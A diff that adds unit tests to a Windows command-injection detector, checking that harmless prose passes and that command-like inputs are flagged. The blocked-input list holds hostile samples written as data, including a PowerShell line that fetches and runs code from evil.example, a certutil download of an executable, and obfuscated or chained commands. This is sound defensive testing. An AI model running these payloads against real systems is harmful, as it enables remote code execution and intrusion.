@@ -197,4 +197,33 @@ class WindowsCommandDetectorTest {
         assertThat(Scans.header(detector, "Referer", "https://example.com/?q=dir c:\\windows")).containsExactly("WINCMD-COMMAND");
         assertThat(Scans.header(detector, "Referer", "https://example.com/?q=dir+sizes+chart")).isEmpty();
     }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"whoami tells you the current user", "netstat shows port 8080 in use",
+        "tasklist is empty"})
+    void allowsCommandNameOpeningSentenceWithProseOperand(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"ipconfig release renew", "whoami meaning", "systeminfo output"})
+    void allowsSwitchesOnlyCommandFollowedByWord(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"PowerShell 7.4.0", "pwsh 7.4.1"})
+    void allowsPowerShellFollowedByVersion(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+        assertThat(strict(detector, value)).containsExactly("WINCMD-WEAK");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"ipconfig /all", "ipconfig release /all", "whoami /priv", "netstat -ano",
+        "ipconfig release & whoami", "whoami the & dir C:\\", "& whoami the", "cmd the /c whoami",
+        "powershell the whoami", "PowerShell 7.4 -enc AAAA", "powershell 7.4.0; iex(iwr http://evil.example/a)",
+        "w^hoami the", "certutil is -urlcache -f http://evil.example/x.exe"})
+    void blocksSentenceLikeCommandWithSwitchesSeparatorOrShellOperand(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
 }
